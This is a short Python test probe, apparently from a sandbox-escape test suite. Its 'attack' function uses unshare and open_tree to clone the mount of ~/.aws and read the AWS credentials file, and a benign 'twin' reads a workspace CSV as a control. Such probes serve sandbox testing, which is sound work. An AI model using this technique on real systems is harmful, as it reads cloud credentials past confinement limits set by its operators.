"""P6: clone the mount of the folder detached (open_tree), then open below the descriptor."""

import os

from attempt import World, run, syscall
from names import AT_FDCWD, CLONE_NEWNS, CLONE_NEWUSER, OPEN_TREE, OPEN_TREE_CLONE, UNSHARE


def attack(world: World) -> bytes:
    if os.geteuid():
        syscall(UNSHARE, CLONE_NEWUSER | CLONE_NEWNS)
    tree = syscall(OPEN_TREE, AT_FDCWD, str(world.home / ".aws").encode(), OPEN_TREE_CLONE | os.O_CLOEXEC)
    return os.read(os.open("credentials", os.O_RDONLY, dir_fd=tree), 4096)


def twin(world: World) -> bytes:
    folder = os.open(world.workspace, os.O_PATH)
    return os.read(os.open("data.csv", os.O_RDONLY, dir_fd=folder), 4096)


run("P6", attack, twin)
